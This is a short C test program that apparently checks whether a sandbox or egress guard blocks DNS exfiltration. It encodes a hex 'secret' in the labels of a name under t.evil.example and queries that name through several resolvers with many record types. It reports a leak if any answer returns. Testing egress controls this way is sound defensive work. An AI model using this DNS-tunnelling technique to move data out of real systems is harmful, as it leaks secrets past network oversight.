/* Names as data: labels that carry a secret, by every kind of question, to every server in reach. */
#include "dns.h"
#include <netdb.h>
int main(int n, char **words) {
    begin(words);
    static const char name[] =
        "4b1d0f5e6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3c4d5e6f7a8b9c0d1e2f3.6a7b8c9d0e1f2a3b4c5d6e7f8091a2b3.t.evil.example";
    static const int kinds[] = {1, 28, 16, 5, 15, 33, 12, 10 /* NULL */, 65, 255};
    static const char *const servers[] = {"127.0.0.1", "8.8.8.8", "45.79.0.1"};
    for (int i = 0; i < 3; i++)
        for (int k = 0; k < 10; k++) {
            if (i == 0 && *told("CONTROL")) continue;
            if (ask(servers[i], name, kinds[k]) == 16) leaked("the name went out");
        }
    struct addrinfo *found = 0, how = {.ai_socktype = SOCK_STREAM};
    if (!getaddrinfo(name, "443", &how, &found)) works("an address of the guard's own");
    blocked("no name came out");
}
